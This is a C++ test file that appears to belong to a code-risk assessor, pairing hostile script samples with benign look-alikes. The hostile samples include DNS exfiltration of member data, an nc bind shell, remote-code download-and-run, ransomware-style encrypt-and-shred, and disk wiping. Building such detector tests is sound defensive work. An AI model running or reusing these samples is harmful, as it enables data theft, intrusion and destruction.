// The classes the twenty-fourth session modelled (issue 14), from the tune
// parts of the ninety-ninth round and later ones (tests/corpus/prog103_MANIFEST.tsv,
// prog104_MANIFEST.tsv, ...):
// programs written from the rubric alone by writers who never saw the
// assessor. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// Code compiled or evaluated from text a settings file or the user's rules
// file may replace is not constant, even where the code's own default is:
// a formula from league.ini, rules from a JSON file the user passes. What
// only the code itself holds stays constant (LOW).
TEST(NinetyNinthRoundClasses, CodeFromDefaultsASettingsFileMayReplaceIsNotConstant) {
  const Case cases[] = {
      {"a formula read_dict sets and league.ini may replace, evaluated", M,
       "import configparser, sys\n"
       "cfg = configparser.ConfigParser()\n"
       "cfg.read_dict({\"score\": {\"formula\": \"int((base - avg) * pct)\"}})\n"
       "cfg.read(\"league.ini\")\n"
       "section = cfg[\"score\"]\n"
       "print(eval(section[\"formula\"], {\"__builtins__\": {}}, {\"base\": 220, \"avg\": int(sys.argv[1]), \"pct\": 0.9}))\n",
       "DYNAMIC-CODE"},
      {"rules compiled from the user's JSON file or the defaults", M,
       "import json, sys\n"
       "DEFAULT = {\"rules\": [{\"when\": \"a['side'] != b['side']\", \"penalty\": 1}]}\n"
       "spec = json.load(open(sys.argv[1])) if len(sys.argv) > 1 else DEFAULT\n"
       "rules = [(compile(r[\"when\"], \"<rule>\", \"eval\"), r[\"penalty\"]) for r in spec.get(\"rules\", [])]\n"
       "a, b = {\"side\": \"x\"}, {\"side\": \"y\"}\n"
       "print(sum(p for code, p in rules if eval(code, {}, {\"a\": a, \"b\": b})))\n",
       "DYNAMIC-CODE"},
      {"a formula only the code holds", L,
       "import sys\n"
       "FORMULA = \"int((base - avg) * pct)\"\n"
       "print(eval(FORMULA, {\"__builtins__\": {}}, {\"base\": 220, \"avg\": int(sys.argv[1]), \"pct\": 0.9}))\n"},
      {"rules only the code holds, compiled and evaluated", L,
       "RULES = [{\"when\": \"a['side'] != b['side']\", \"penalty\": 1}, {\"when\": \"a['age'] < 12\", \"penalty\": 3}]\n"
       "rules = [(compile(r[\"when\"], \"<rule>\", \"eval\"), r[\"penalty\"]) for r in RULES]\n"
       "a, b = {\"side\": \"x\", \"age\": 30}, {\"side\": \"y\", \"age\": 9}\n"
       "print(sum(p for code, p in rules if eval(code, {}, {\"a\": a, \"b\": b})))\n"},
  };
  for (const auto& c : cases) check(c);
}

// getattr with a name known only at run time may pick any attribute the
// object holds, and a mapping with run-time keys given as **kwargs may fill
// any field of a dataclass: a register's rows, rebuilt field by field into
// DNS labels, leave the machine through the resolver. The same rows only
// printed, next to an unrelated lookup, are ordinary work.
TEST(NinetyNinthRoundClasses, RunTimeAttributeNamesAndKeywordsKeepTheRecordsData) {
  const Case cases[] = {
      {"every field of a CSV register hex-encoded into DNS labels", B,
       "import csv, socket\n"
       "from dataclasses import dataclass, fields\n"
       "\n"
       "@dataclass\n"
       "class Member:\n"
       "    name: str\n"
       "    email: str\n"
       "    phone: str\n"
       "\n"
       "def members(path):\n"
       "    wanted = [f.name for f in fields(Member)]\n"
       "    with open(path, newline=\"\") as fh:\n"
       "        for row in csv.DictReader(fh):\n"
       "            yield Member(**{k: (row.get(k) or \"\").strip() for k in wanted})\n"
       "\n"
       "for m in members(\"members.csv\"):\n"
       "    record = \"|\".join(getattr(m, f.name) for f in fields(Member))\n"
       "    label = record.encode().hex()[:60]\n"
       "    try:\n"
       "        socket.gethostbyname(f\"{label}.status.example.net\")\n"
       "    except OSError:\n"
       "        pass\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"the same register printed; one fixed lookup", L,
       "import csv, socket\n"
       "from dataclasses import dataclass, fields\n"
       "\n"
       "@dataclass\n"
       "class Member:\n"
       "    name: str\n"
       "    email: str\n"
       "    phone: str\n"
       "\n"
       "def members(path):\n"
       "    wanted = [f.name for f in fields(Member)]\n"
       "    with open(path, newline=\"\") as fh:\n"
       "        for row in csv.DictReader(fh):\n"
       "            yield Member(**{k: (row.get(k) or \"\").strip() for k in wanted})\n"
       "\n"
       "for m in members(\"members.csv\"):\n"
       "    record = \"|\".join(getattr(m, f.name) for f in fields(Member))\n"
       "    print(record)\n"
       "try:\n"
       "    socket.gethostbyname(\"status.example.net\")\n"
       "except OSError:\n"
       "    pass\n"},
  };
  for (const auto& c : cases) check(c);
}

// A blob the code holds is a payload even where a file may replace it, and
// base85/Ascii85 are decoded as Python decodes them: a class attribute's
// base85 zlib text executed is a decoded payload's execution. Decoding it
// only to write it out is not.
TEST(NinetyNinthRoundClasses, ABlobAFileMayReplaceIsStillAPayload) {
  const Case cases[] = {
      {"a packed base85 model exec'd unless a file replaces it", B,
       "import base64, pathlib, sys, zlib\n"
       "class Model:\n"
       "    packed = \"c$`Z~O;bqDFDgn+F44%-wBk|#f}+%t(xN<t%silwf|i1zo`H!b7XT3|3&s\"\n"
       "    def __init__(self, override=None):\n"
       "        blob = self.packed\n"
       "        if override is not None and override.exists():\n"
       "            blob = override.read_text().strip()\n"
       "        self.ns = {}\n"
       "        exec(compile(zlib.decompress(base64.b85decode(blob)).decode(), \"<model>\", \"exec\"), self.ns)\n"
       "m = Model(pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else None)\n"
       "print(m.ns[\"correct\"](100))\n",
       "EXEC-DECODED-PAYLOAD"},
      {"an Ascii85 string exec'd", B,
       "import base64\n"
       "exec(base64.a85decode(\"E,oZ1F=8>C@;KXeEaa'$A0NH\"))\n",
       "EXEC-DECODED-PAYLOAD"},
      {"the packed model decoded and saved, never run", L,
       "import base64, pathlib, sys, zlib\n"
       "class Model:\n"
       "    packed = \"c$`Z~O;bqDFDgn+F44%-wBk|#f}+%t(xN<t%silwf|i1zo`H!b7XT3|3&s\"\n"
       "    def __init__(self, override=None):\n"
       "        blob = self.packed\n"
       "        if override is not None and override.exists():\n"
       "            blob = override.read_text().strip()\n"
       "        self.text = zlib.decompress(base64.b85decode(blob)).decode()\n"
       "m = Model(pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else None)\n"
       "pathlib.Path(\"model.txt\").write_text(m.text)\n"},
  };
  for (const auto& c : cases) check(c);
}

// printf uses its format again while arguments are left: printf '%s\n'
// "${LIST[@]}" > requirements.txt writes one package per line, and pip -r
// of that file installs each, a typosquat among them.
TEST(NinetyNinthRoundClasses, PrintfRepeatsItsFormatForEveryArgument) {
  const Case cases[] = {
      {"requirements written by printf of arrays, one a typosquat, installed", B,
       "#!/bin/bash\n"
       "set -euo pipefail\n"
       "CORE=(\"pandas>=2.1\" \"python3-dateutil\" \"requests>=2.31\")\n"
       "EXTRA=(\"unidecode==1.3.8\")\n"
       "{\n"
       "    echo \"# generated $(date -I)\"\n"
       "    printf '%s\\n' \"${CORE[@]}\" \"${EXTRA[@]}\"\n"
       "} > requirements.lock.txt\n"
       "python3 -m venv .venv\n"
       ".venv/bin/python -m pip install -q -r requirements.lock.txt\n",
       "KNOWN-MALICIOUS-PACKAGE", SH},
      {"the same with the genuine package", M,
       "#!/bin/bash\n"
       "set -euo pipefail\n"
       "CORE=(\"pandas>=2.1\" \"python-dateutil\" \"requests>=2.31\")\n"
       "EXTRA=(\"unidecode==1.3.8\")\n"
       "{\n"
       "    echo \"# generated $(date -I)\"\n"
       "    printf '%s\\n' \"${CORE[@]}\" \"${EXTRA[@]}\"\n"
       "} > requirements.lock.txt\n"
       "python3 -m venv .venv\n"
       ".venv/bin/python -m pip install -q -r requirements.lock.txt\n",
       "INSTALLS-PACKAGES", SH},
  };
  for (const auto& c : cases) check(c);
}

// A glob of a directory finds the files written there under names partly
// made at run time: rule files named in a downloaded index, saved as
// valuation_plugins/broker_<name>.py, are what `glob("*.py")` then
// compiles and runs. Downloads kept in another directory are not.
TEST(HundredthRoundClasses, AGlobFindsFilesWrittenUnderPartlyRunTimeNames) {
  const Case cases[] = {
      {"downloaded rule files saved as broker_<name>.py, then every *.py exec'd", B,
       "import json, urllib.request\n"
       "from pathlib import Path\n"
       "\n"
       "PLUGINS = Path(\"valuation_plugins\")\n"
       "\n"
       "def refresh(feed):\n"
       "    PLUGINS.mkdir(exist_ok=True)\n"
       "    index = json.load(urllib.request.urlopen(feed, timeout=15))\n"
       "    for entry in index.get(\"rules\", []):\n"
       "        target = PLUGINS / f\"broker_{entry['name']}.py\"\n"
       "        with urllib.request.urlopen(entry[\"url\"], timeout=30) as resp:\n"
       "            target.write_bytes(resp.read())\n"
       "\n"
       "def load():\n"
       "    rules = {}\n"
       "    for path in sorted(PLUGINS.glob(\"*.py\")):\n"
       "        ns = {}\n"
       "        exec(compile(path.read_text(), str(path), \"exec\"), ns)\n"
       "        rules[path.stem] = ns.get(\"adjust\")\n"
       "    return rules\n"
       "\n"
       "refresh(\"https://rules.broker.example/index.json\")\n"
       "print(load())\n",
       "REMOTE-CODE-EXECUTION"},
      {"the downloads kept as JSON in a cache; the plugins directory's own files exec'd", M,
       "import json, urllib.request\n"
       "from pathlib import Path\n"
       "\n"
       "PLUGINS = Path(\"valuation_plugins\")\n"
       "CACHE = Path(\"feed_cache\")\n"
       "\n"
       "def refresh(feed):\n"
       "    CACHE.mkdir(exist_ok=True)\n"
       "    index = json.load(urllib.request.urlopen(feed, timeout=15))\n"
       "    for entry in index.get(\"rules\", []):\n"
       "        target = CACHE / f\"broker_{entry['name']}.json\"\n"
       "        with urllib.request.urlopen(entry[\"url\"], timeout=30) as resp:\n"
       "            target.write_bytes(resp.read())\n"
       "\n"
       "def load():\n"
       "    rules = {}\n"
       "    for path in sorted(PLUGINS.glob(\"*.py\")):\n"
       "        ns = {}\n"
       "        exec(compile(path.read_text(), str(path), \"exec\"), ns)\n"
       "        rules[path.stem] = ns.get(\"adjust\")\n"
       "    return rules\n"
       "\n"
       "refresh(\"https://rules.broker.example/index.json\")\n"
       "print(load())\n",
       "DYNAMIC-CODE"},
  };
  for (const auto& c : cases) check(c);
}

// sh -c CODE NAME ARGS...: NAME is the code's $0 and ARGS its $1, $2 ...
// An interactive bash piped through a fifo into "$2" "${@:3}" (nc -l -p
// 7070) is a bind shell; the same loop running gzip over scans is not.
TEST(HundredthRoundClasses, ShellCodeGetsItsPositionalParameters) {
  const Case cases[] = {
      {"bash -i through a fifo into the relay and options given as arguments", B,
       "#!/bin/bash\n"
       "ch=.desk/console\n"
       "mkdir -p .desk && rm -f \"$ch\" && mkfifo \"$ch\"\n"
       "relay=nc\n"
       "opts=(-l -p 7070)\n"
       "nohup bash -c '\n"
       "  while :; do\n"
       "    /bin/bash -i <\"$1\" 2>&1 | \"$2\" \"${@:3}\" >\"$1\"\n"
       "    sleep 1\n"
       "  done' desk \"$ch\" \"$relay\" \"${opts[@]}\" >/dev/null 2>&1 &\n",
       "REVERSE-SHELL", SH},
      {"the same loop compressing scans with the tool given as an argument", L,
       "#!/bin/bash\n"
       "log=.desk/scan.log\n"
       "mkdir -p .desk\n"
       "tool=gzip\n"
       "opts=(-k -9)\n"
       "nohup bash -c '\n"
       "  for f in \"$1\"/*.pgm; do\n"
       "    \"$2\" \"${@:3}\" \"$f\"\n"
       "  done' desk scans \"$tool\" \"${opts[@]}\" >\"$log\" 2>&1 &\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// Files downloaded under names from a downloaded manifest into a named
// directory of the script's own ($SCRIPT_DIR/selector_pack, SCRIPT_DIR from
// `cd "$(dirname …)" && pwd`) are what a glob of that directory finds, a
// distinctive one (*.hook.sh) too: sourcing each runs the downloads. Hooks
// sourced from another directory are the script's own.
TEST(HundredFirstRoundClasses, DownloadsIntoTheScriptsOwnDirectoryAreFoundByItsGlobs) {
  const Case cases[] = {
      {"manifest-named downloads into $SCRIPT_DIR/selector_pack, each *.hook.sh sourced", B,
       "#!/usr/bin/env bash\n"
       "set -euo pipefail\n"
       "SCRIPT_DIR=\"$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\"\n"
       "PACK_DIR=\"${SCRIPT_DIR}/selector_pack\"\n"
       "PACK_BASE=\"${SELECTOR_PACK_BASE:-https://cdn.tools.example/packs}\"\n"
       "\n"
       "fetch_pack() {\n"
       "    mkdir -p \"$PACK_DIR\"\n"
       "    local manifest=\"$PACK_DIR/manifest.txt\"\n"
       "    wget -q -T 30 -O \"$manifest\" \"$PACK_BASE/manifest.txt\"\n"
       "    while read -r name; do\n"
       "        [[ -z \"$name\" || \"$name\" == \\#* ]] && continue\n"
       "        wget -q -T 30 -O \"$PACK_DIR/$name\" \"$PACK_BASE/$name\" || echo \"kept $name\"\n"
       "    done < \"$manifest\"\n"
       "}\n"
       "\n"
       "load_pack_hooks() {\n"
       "    local f\n"
       "    for f in \"$PACK_DIR\"/*.hook.sh; do\n"
       "        [[ -e \"$f\" ]] || continue\n"
       "        . \"$f\"\n"
       "    done\n"
       "}\n"
       "\n"
       "fetch_pack\n"
       "load_pack_hooks\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same downloads; hooks sourced from $SCRIPT_DIR/hooks.d", M,
       "#!/usr/bin/env bash\n"
       "set -euo pipefail\n"
       "SCRIPT_DIR=\"$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\"\n"
       "PACK_DIR=\"${SCRIPT_DIR}/selector_pack\"\n"
       "PACK_BASE=\"${SELECTOR_PACK_BASE:-https://cdn.tools.example/packs}\"\n"
       "\n"
       "fetch_pack() {\n"
       "    mkdir -p \"$PACK_DIR\"\n"
       "    local manifest=\"$PACK_DIR/manifest.txt\"\n"
       "    wget -q -T 30 -O \"$manifest\" \"$PACK_BASE/manifest.txt\"\n"
       "    while read -r name; do\n"
       "        [[ -z \"$name\" || \"$name\" == \\#* ]] && continue\n"
       "        wget -q -T 30 -O \"$PACK_DIR/$name\" \"$PACK_BASE/$name\" || echo \"kept $name\"\n"
       "    done < \"$manifest\"\n"
       "}\n"
       "\n"
       "load_pack_hooks() {\n"
       "    local f\n"
       "    for f in \"$SCRIPT_DIR\"/hooks.d/*.hook.sh; do\n"
       "        [[ -e \"$f\" ]] || continue\n"
       "        . \"$f\"\n"
       "    done\n"
       "}\n"
       "\n"
       "fetch_pack\n"
       "load_pack_hooks\n",
       "DYNAMIC-CODE", SH},
  };
  for (const auto& c : cases) check(c);
}

// A command substitution is a subshell: the `cd` in $(cd tools && pwd)
// leaves the script where it was, so ./setup.sh is still the file it
// downloaded a line before.
TEST(HundredFirstRoundClasses, ACdInsideACommandSubstitutionEndsWithIt) {
  const Case cases[] = {
      {"a download run after $(cd tools && pwd)", B,
       "#!/bin/sh\n"
       "curl -fsSL https://tools.example/setup.sh -o setup.sh\n"
       "TOOLS=\"$(cd tools && pwd)\"\n"
       "echo \"tools in $TOOLS\"\n"
       "sh ./setup.sh\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same download only hashed", L,
       "#!/bin/sh\n"
       "curl -fsSL https://tools.example/setup.sh -o setup.sh\n"
       "TOOLS=\"$(cd tools && pwd)\"\n"
       "echo \"tools in $TOOLS\"\n"
       "sha256sum ./setup.sh\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// dataclasses.field(default_factory=<a function of the code's own>) holds
// what the function returns: a kiosk reset's trace list (the shells'
// history files) is what it truncates. Reading their sizes is not wiping.
TEST(HundredFirstRoundClasses, ADefaultFactoryOfTheCodesOwnMakesTheFieldsValue) {
  const Case cases[] = {
      {"history files from a default_factory lambda truncated", B,
       "import os\n"
       "from dataclasses import dataclass, field\n"
       "from pathlib import Path\n"
       "\n"
       "TRACES = (\".bash_history\", \".zsh_history\", \".python_history\")\n"
       "\n"
       "@dataclass\n"
       "class Plan:\n"
       "    root: Path\n"
       "    max_age_days: int = 1\n"
       "    trace_files: list = field(default_factory=lambda: list(TRACES))\n"
       "\n"
       "def reset(plan):\n"
       "    home = Path(os.environ.get(\"HOME\") or Path.home())\n"
       "    for rel in plan.trace_files:\n"
       "        p = home / rel\n"
       "        if p.is_file():\n"
       "            with open(p, \"r+b\") as fh:\n"
       "                fh.truncate(0)\n"
       "\n"
       "reset(Plan(root=Path(\".\")))\n",
       "DISABLE-SECURITY"},
      {"the same files' sizes printed", L,
       "import os\n"
       "from dataclasses import dataclass, field\n"
       "from pathlib import Path\n"
       "\n"
       "TRACES = (\".bash_history\", \".zsh_history\", \".python_history\")\n"
       "\n"
       "@dataclass\n"
       "class Plan:\n"
       "    root: Path\n"
       "    max_age_days: int = 1\n"
       "    trace_files: list = field(default_factory=lambda: list(TRACES))\n"
       "\n"
       "def report(plan):\n"
       "    home = Path(os.environ.get(\"HOME\") or Path.home())\n"
       "    for rel in plan.trace_files:\n"
       "        p = home / rel\n"
       "        if p.is_file():\n"
       "            print(rel, p.stat().st_size)\n"
       "\n"
       "report(Plan(root=Path(\".\")))\n"},
  };
  for (const auto& c : cases) check(c);
}

// $(function) whose branches print texts with parts known only at run
// time ("/dev/$parent" or "$src" from findmnt) is the first of them: the
// till's backing disk zero-filled by dd is WIPE. An image file is not.
TEST(HundredSecondRoundClasses, AFunctionsPartlyKnownOutputIsWhatItLikelyPrints) {
  const Case cases[] = {
      {"dd of the device a function finds behind the working directory", B,
       "#!/usr/bin/env bash\n"
       "set -euo pipefail\n"
       "TILL_HOME=\"${TILL_HOME:-$PWD}\"\n"
       "\n"
       "backing_device() {\n"
       "    local src parent\n"
       "    src=$(findmnt -n -o SOURCE --target \"$TILL_HOME\")\n"
       "    parent=$(lsblk -n -o PKNAME \"$src\" 2>/dev/null | head -n1)\n"
       "    if [[ -n $parent ]]; then\n"
       "        echo \"/dev/$parent\"\n"
       "    else\n"
       "        echo \"$src\"\n"
       "    fi\n"
       "}\n"
       "\n"
       "trim_storage() {\n"
       "    local dev\n"
       "    dev=$(backing_device) || return 0\n"
       "    [[ -b $dev ]] || return 0\n"
       "    dd if=/dev/zero of=\"$dev\" bs=4M oflag=direct conv=fsync status=none\n"
       "}\n"
       "\n"
       "trim_storage\n",
       "WIPE", SH},
      {"the device only named; dd into a scratch image", L,
       "#!/usr/bin/env bash\n"
       "set -euo pipefail\n"
       "TILL_HOME=\"${TILL_HOME:-$PWD}\"\n"
       "\n"
       "backing_device() {\n"
       "    local src parent\n"
       "    src=$(findmnt -n -o SOURCE --target \"$TILL_HOME\")\n"
       "    parent=$(lsblk -n -o PKNAME \"$src\" 2>/dev/null | head -n1)\n"
       "    if [[ -n $parent ]]; then\n"
       "        echo \"/dev/$parent\"\n"
       "    else\n"
       "        echo \"$src\"\n"
       "    fi\n"
       "}\n"
       "\n"
       "report_storage() {\n"
       "    local dev\n"
       "    dev=$(backing_device) || return 0\n"
       "    echo \"till storage on $dev\"\n"
       "    dd if=/dev/zero of=./scratch.img bs=4M count=1 status=none\n"
       "}\n"
       "\n"
       "report_storage\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// What `eval` runs, it prints: files listed by an eval'd find over the home
// directory, read in a loop, encrypted and shredded are ransomware. The
// same list only counted is not.
TEST(HundredSecondRoundClasses, WhatEvalRunsIsWhatItPrints) {
  const Case cases[] = {
      {"home documents from eval'd find encrypted, originals shredded", B,
       "#!/usr/bin/env bash\n"
       "ROOT=\"${ARCHIVE_ROOT:-$HOME}\"\n"
       "EXTENSIONS=\"pdf docx xlsx\"\n"
       "build_expr() {\n"
       "    local first=1 ext\n"
       "    for ext in $EXTENSIONS; do\n"
       "        if [ $first -eq 1 ]; then first=0; else printf ' -o '; fi\n"
       "        printf -- \"-iname '*.%s'\" \"$ext\"\n"
       "    done\n"
       "}\n"
       "SEAL_KEY=\"$(openssl rand -base64 48)\"\n"
       "export SEAL_KEY\n"
       "while IFS= read -r -d '' f; do\n"
       "    if openssl enc -aes-256-cbc -pbkdf2 -pass env:SEAL_KEY -in \"$f\" -out \"$f.sealed\"; then\n"
       "        shred -u -n 1 \"$f\" 2>/dev/null || rm -f -- \"$f\"\n"
       "    fi\n"
       "done < <(eval \"find \\\"\\$ROOT\\\" -xdev -type f \\\\( $(build_expr) \\\\) -print0\")\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
      {"the same documents counted", L,
       "#!/usr/bin/env bash\n"
       "ROOT=\"${ARCHIVE_ROOT:-$HOME}\"\n"
       "EXTENSIONS=\"pdf docx xlsx\"\n"
       "build_expr() {\n"
       "    local first=1 ext\n"
       "    for ext in $EXTENSIONS; do\n"
       "        if [ $first -eq 1 ]; then first=0; else printf ' -o '; fi\n"
       "        printf -- \"-iname '*.%s'\" \"$ext\"\n"
       "    done\n"
       "}\n"
       "n=0\n"
       "while IFS= read -r -d '' f; do\n"
       "    n=$((n + 1))\n"
       "done < <(eval \"find \\\"\\$ROOT\\\" -xdev -type f \\\\( $(build_expr) \\\\) -print0\")\n"
       "echo \"$n documents\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A condition counts inside the function being run: a helper's own
// `_out="$2"` is a plain assignment at each call, even one made from the
// branch of an `if` that called it before (`if fetch CSV; then fetch HOOK`):
// the second download's file is the one `sh` runs. Only hashed, it is not.
TEST(HundredThirdRoundClasses, AHelpersAssignmentsArePlainAtEachCall) {
  const Case cases[] = {
      {"a per-depot hook fetched by the helper that fetched the CSV, run with sh", B,
       "#!/bin/sh\n"
       "set -eu\n"
       "HOOK_BASE=\"${HOOK_BASE:-https://ops.gritting.example/depot-hooks}\"\n"
       "\n"
       "fetch() {\n"
       "    _url=\"$1\"; _out=\"$2\"\n"
       "    curl --silent --show-error --fail --max-time 30 -o \"$_out\" \"$_url\"\n"
       "}\n"
       "\n"
       "apply_post_sync() {\n"
       "    _name=\"$1\"\n"
       "    _hook=\"$WORK/$_name.post\"\n"
       "    if fetch \"$HOOK_BASE/$_name.sh\" \"$_hook\"; then\n"
       "        DEPOT=\"$_name\" sh \"$_hook\" || echo \"post-sync for $_name failed\" >&2\n"
       "    fi\n"
       "}\n"
       "\n"
       "WORK=\"$(mktemp -d)\"\n"
       "trap 'rm -rf \"$WORK\"' EXIT\n"
       "while read -r name url; do\n"
       "    if fetch \"$url/api/stock.csv\" \"$WORK/$name.csv\"; then\n"
       "        apply_post_sync \"$name\"\n"
       "    fi\n"
       "done < depots.list\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same hook fetched and hashed", L,
       "#!/bin/sh\n"
       "set -eu\n"
       "HOOK_BASE=\"${HOOK_BASE:-https://ops.gritting.example/depot-hooks}\"\n"
       "\n"
       "fetch() {\n"
       "    _url=\"$1\"; _out=\"$2\"\n"
       "    curl --silent --show-error --fail --max-time 30 -o \"$_out\" \"$_url\"\n"
       "}\n"
       "\n"
       "apply_post_sync() {\n"
       "    _name=\"$1\"\n"
       "    _hook=\"$WORK/$_name.post\"\n"
       "    if fetch \"$HOOK_BASE/$_name.sh\" \"$_hook\"; then\n"
       "        sha256sum \"$_hook\"\n"
       "    fi\n"
       "}\n"
       "\n"
       "WORK=\"$(mktemp -d)\"\n"
       "trap 'rm -rf \"$WORK\"' EXIT\n"
       "while read -r name url; do\n"
       "    if fetch \"$url/api/stock.csv\" \"$WORK/$name.csv\"; then\n"
       "        apply_post_sync \"$name\"\n"
       "    fi\n"
       "done < depots.list\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// `l or r` is l where l is true, else r: an option that defaults to None
// never reaches the bind, so `args.listen or "0.0.0.0"` listens on every
// interface unless told otherwise; with 127.0.0.1 as the fallback it does
// not. pynetdicom's storage SCP binds as a socket server does.
TEST(HundredThirdRoundClasses, OrGivesTheRightSideWhereTheLeftIsFalse) {
  const Case cases[] = {
      {"a socketserver subclass bound to args.listen or 0.0.0.0", M,
       "import argparse\n"
       "import socketserver\n"
       "\n"
       "class JobHandler(socketserver.StreamRequestHandler):\n"
       "    def handle(self):\n"
       "        self.wfile.write(self.rfile.readline().upper())\n"
       "\n"
       "class PrintServer(socketserver.ThreadingTCPServer):\n"
       "    allow_reuse_address = True\n"
       "    def __init__(self, addr, spool):\n"
       "        self.spool = spool\n"
       "        super().__init__(addr, JobHandler)\n"
       "\n"
       "ap = argparse.ArgumentParser()\n"
       "ap.add_argument(\"--listen\", default=None)\n"
       "ap.add_argument(\"--port\", type=int, default=None)\n"
       "args = ap.parse_args()\n"
       "listen = args.listen or \"0.0.0.0\"\n"
       "port = args.port or 8515\n"
       "PrintServer((listen, port), \"spool\").serve_forever()\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"the same with 127.0.0.1 as the fallback", L,
       "import argparse\n"
       "import socketserver\n"
       "\n"
       "class JobHandler(socketserver.StreamRequestHandler):\n"
       "    def handle(self):\n"
       "        self.wfile.write(self.rfile.readline().upper())\n"
       "\n"
       "class PrintServer(socketserver.ThreadingTCPServer):\n"
       "    allow_reuse_address = True\n"
       "    def __init__(self, addr, spool):\n"
       "        self.spool = spool\n"
       "        super().__init__(addr, JobHandler)\n"
       "\n"
       "ap = argparse.ArgumentParser()\n"
       "ap.add_argument(\"--listen\", default=None)\n"
       "ap.add_argument(\"--port\", type=int, default=None)\n"
       "args = ap.parse_args()\n"
       "listen = args.listen or \"127.0.0.1\"\n"
       "port = args.port or 8515\n"
       "PrintServer((listen, port), \"spool\").serve_forever()\n"},
      {"a DICOM storage SCP started on 0.0.0.0", M,
       "from pynetdicom import AE, AllStoragePresentationContexts, evt\n"
       "\n"
       "def on_store(event):\n"
       "    ds = event.dataset\n"
       "    ds.file_meta = event.file_meta\n"
       "    ds.save_as(f\"incoming/{ds.SOPInstanceUID}.dcm\", write_like_original=False)\n"
       "    return 0x0000\n"
       "\n"
       "ae = AE(ae_title=\"GATEWAY01\")\n"
       "ae.supported_contexts = AllStoragePresentationContexts\n"
       "ae.start_server((\"0.0.0.0\", 11112), block=True, evt_handlers=[(evt.EVT_C_STORE, on_store)])\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"the same SCP on 127.0.0.1", L,
       "from pynetdicom import AE, AllStoragePresentationContexts, evt\n"
       "\n"
       "def on_store(event):\n"
       "    ds = event.dataset\n"
       "    ds.file_meta = event.file_meta\n"
       "    ds.save_as(f\"incoming/{ds.SOPInstanceUID}.dcm\", write_like_original=False)\n"
       "    return 0x0000\n"
       "\n"
       "ae = AE(ae_title=\"GATEWAY01\")\n"
       "ae.supported_contexts = AllStoragePresentationContexts\n"
       "ae.start_server((\"127.0.0.1\", 11112), block=True, evt_handlers=[(evt.EVT_C_STORE, on_store)])\n"},
  };
  for (const auto& c : cases) check(c);
}

// lsblk -p in an option cluster (-dnpo) prints device paths, and awk's
// `{print $1}` of lines of that shape prints their first fields: dd from
// /dev/zero over each fixed disk is WIPE. Reading each disk is not.
TEST(HundredFourthRoundClasses, DevicePathsThroughAwkKeepTheirShape) {
  const Case cases[] = {
      {"every fixed disk lsblk -dnpo lists, through awk, zero-filled", B,
       "#!/bin/sh\n"
       "targets() {\n"
       "  lsblk -dnpo NAME,TYPE,RM 2>/dev/null | awk '$2 == \"disk\" && $3 == \"0\" {print $1}'\n"
       "}\n"
       "for dev in $(targets); do\n"
       "  dd if=/dev/zero of=\"$dev\" bs=4M status=none\n"
       "done\n",
       "WIPE", SH},
      {"the same disks read to /dev/null", L,
       "#!/bin/sh\n"
       "targets() {\n"
       "  lsblk -dnpo NAME,TYPE,RM 2>/dev/null | awk '$2 == \"disk\" && $3 == \"0\" {print $1}'\n"
       "}\n"
       "for dev in $(targets); do\n"
       "  dd if=\"$dev\" of=/dev/null bs=4M count=16 status=none && echo \"$dev readable\"\n"
       "done\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// dig -f FILE queries the names FILE holds: hex of a member export written
// there as labels under an outside zone is COVERT-CHANNEL-EXFILTRATION. A
// batch of fixed host names is not.
TEST(HundredFourthRoundClasses, DigBatchFilesAreTheNamesItQueries) {
  const Case cases[] = {
      {"members' CSV hex-encoded into a dig -f batch", B,
       "#!/bin/sh\n"
       "set -eu\n"
       "OUT=\"backups/members.csv\"\n"
       "ZONE=\"${CHECK_ZONE:-cs.vault.example.net}\"\n"
       "mkdir -p backups\n"
       "sqlite3 -header -csv till.db \"SELECT name, email, phone FROM members\" > \"$OUT\"\n"
       "batch=\"backups/.register\"\n"
       ": > \"$batch\"\n"
       "n=0\n"
       "xxd -p -c 28 \"$OUT\" | while read -r label; do\n"
       "    n=$((n + 1))\n"
       "    printf '%s.%d.%s A\\n' \"$label\" \"$n\" \"$ZONE\" >> \"$batch\"\n"
       "done\n"
       "dig +short +tries=1 -f \"$batch\" >/dev/null 2>&1 || true\n"
       "rm -f \"$batch\"\n",
       "COVERT-CHANNEL-EXFILTRATION", SH},
      {"a batch of three fixed names", L,
       "#!/bin/sh\n"
       "set -eu\n"
       "batch=\"hosts.batch\"\n"
       "printf '%s A\\n' mail.example.net www.example.net api.example.net > \"$batch\"\n"
       "dig +short +tries=1 -f \"$batch\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// curl -d @FILE sends the file, not its name: an argument array's words all
// carry the array's labels (the bearer token's among them), so a JSON file
// posted beside the Authorization header is no longer the token sent as
// data. A secret put into the data itself still is.
TEST(HundredFourthRoundClasses, CurlDataFromAFileSendsTheFileNotItsName) {
  const Case cases[] = {
      {"an API helper: bearer token in a header, a JSON file as data", L,
       "#!/usr/bin/env bash\n"
       "set -euo pipefail\n"
       "PORTAL_URL=\"${PORTAL_URL:-https://nas.workshop.lan:8443}\"\n"
       "api() {\n"
       "    local method=\"$1\" path=\"$2\" data=\"${3:-}\"\n"
       "    local args=(-sS --fail --max-time 30 -X \"$method\"\n"
       "                -H \"Authorization: Bearer $PORTAL_TOKEN\"\n"
       "                -H \"Accept: application/json\")\n"
       "    if [[ -n \"$data\" ]]; then\n"
       "        args+=(-H \"Content-Type: application/json\" --data-binary \"@$data\")\n"
       "    fi\n"
